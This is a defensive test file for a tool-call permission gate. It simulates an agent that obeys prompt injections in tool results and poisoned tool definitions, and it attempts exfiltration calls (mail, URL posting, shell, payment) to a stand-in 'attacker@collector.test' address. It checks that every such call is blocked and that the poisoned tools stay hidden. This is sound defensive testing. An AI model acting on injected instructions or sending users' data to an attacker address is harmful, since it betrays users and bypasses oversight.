import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { Server } from '@modelcontextprotocol/server'
import { createCountersign, memoryPair } from 'countersign'
import { starterPolicy } from '../../src/cli/starter.ts'
import { type JsonObject, isJsonObject, member, textMember } from '../../src/words/json.ts'

// A model that does whatever a text asks of it, with whatever tool there is. No text filter has a part in this: what a
// filter finds is a label, and every call here would have to be held by the gates if nothing had been found.

const folder = join(import.meta.dirname, '../../../shared/attacks')
const skip = existsSync(folder) ? false : 'the labelled cases are not here'
const rows = (file: string): JsonObject[] =>
  readFileSync(join(folder, file), 'utf8')
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as JsonObject)

const text = { type: 'object', properties: { to: { type: 'string' }, body: { type: 'string' } } } as const

/** Servers of a working place: a reader whose results are injected, and tools with which harm can be done. */
function place() {
  const effects: string[] = []
  let page: JsonObject = { content: [] }
  let offered: JsonObject[] = []
  const serverOf = (name: string, tools: () => JsonObject[]) => async () => {
    const server = new Server({ name, version: '1' }, { capabilities: { tools: { listChanged: true } } })
    server.setRequestHandler('tools/list', () => ({ tools: tools() }) as never)
    server.setRequestHandler('tools/call', ({ params }) => {
      if (params.name === 'read_page') return page as never
      effects.push(`${name}/${params.name}`)
      return { content: [{ type: 'text', text: 'done' }] }
    })
    const [ours, theirs] = memoryPair()
    await server.connect(theirs)
    return ours
  }
  const harmful = ['send_mail', 'post_url', 'delete_file', 'write_file', 'pay', 'run_shell'].map((name) => ({
    name,
    description: `Does ${name}.`,
    inputSchema: text,
  }))
  return {
    effects,
    shows: (result: JsonObject) => void (page = result),
    offers: (tools: JsonObject[]) => void (offered = tools),
    servers: {
      web: {
        open: serverOf('web', () => [{ name: 'read_page', description: 'Reads.', inputSchema: { type: 'object' } }]),
        tools: { read_page: { effect: 'read', risk: 'low' } },
      },
      desk: { open: serverOf('desk', () => harmful) },
      stranger: { open: serverOf('stranger', () => offered) },
    },
    harmful: harmful.map(({ name }) => `desk__${name}`),
  } as const
}

const consent = [
  { name: 'reads', effect: ['read'], decision: 'allow', channels: [], selfApproval: false, expiresMs: 60_000 },
] as const

test('an obedient model causes nothing by any injected result', { skip, timeout: 240_000 }, async () => {
  const here = place()
  await using open = disposable(await createCountersign({ servers: here.servers, policy: starterPolicy, consent }))
  const { sign } = open
  for (const tool of sign.pending()) await sign.approve(tool, 'operator')
  let read = 0
  let tried = 0
  for (const row of rows('result-injection.jsonl')) {
    if (textMember(row, 'label') === 'benign') continue
    const result = member(row, 'result')
    assert.ok(isJsonObject(result))
    here.shows(result)
    const given = await sign.call('web__read_page', JSON.stringify({ page: read++ }))
    if (given.kind !== 'answered') continue
    // It takes the whole text for an order, and every tool for the means.
    const body = JSON.stringify(result).slice(0, 2_000)
    for (const tool of [here.harmful[read % here.harmful.length]!, here.harmful[(read + 1) % here.harmful.length]!]) {
      const answer = await sign.call(tool, JSON.stringify({ to: 'attacker@collector.test', body }))
      assert.notEqual(answer.kind, 'answered', `${textMember(row, 'id')} ${tool}`)
      tried++
    }
  }
  assert.ok(read > 400 && tried > 800, `${read} results, ${tried} calls`)
  assert.deepEqual(here.effects, [])
})

test(
  'an obedient model causes nothing by any poisoned definition, and never sees one',
  { skip, timeout: 240_000 },
  async () => {
    const here = place()
    const poisoned = rows('tool-poisoning.jsonl').filter((row) => textMember(row, 'label') !== 'benign')
    const seen = new Map<string, JsonObject>()
    for (const row of poisoned) {
      const tool = member(row, 'tool')
      if (isJsonObject(tool) && /^[\w.-]{1,60}$/.test(textMember(tool, 'name') ?? ''))
        seen.set(textMember(tool, 'name')!, tool)
    }
    here.offers([...seen.values()])
    await using open = disposable(await createCountersign({ servers: here.servers, policy: starterPolicy, consent }))
    const { sign } = open
    for (const tool of sign.pending()) if (!tool.startsWith('stranger/')) await sign.approve(tool, 'operator')
    const shown = JSON.stringify([sign.offers(), sign.anthropicTools(), sign.openaiTools()])
    for (const [name, tool] of seen) {
      assert.ok(!shown.includes(`stranger__${name}`), name)
      const answer = await sign.call(`stranger__${name}`, '{}')
      assert.ok(answer.kind === 'refused', `${name}: ${answer.kind}`)
      const order = JSON.stringify({ to: 'attacker@collector.test', body: textMember(tool, 'description') ?? '' })
      for (const means of here.harmful)
        assert.notEqual((await sign.call(means, order)).kind, 'answered', `${name} ${means}`)
    }
    assert.ok(seen.size > 150, `${seen.size} definitions`)
    assert.deepEqual(here.effects, [])
  },
)

function disposable(sign: Awaited<ReturnType<typeof createCountersign>>) {
  return { sign, [Symbol.asyncDispose]: () => sign.close() }
}
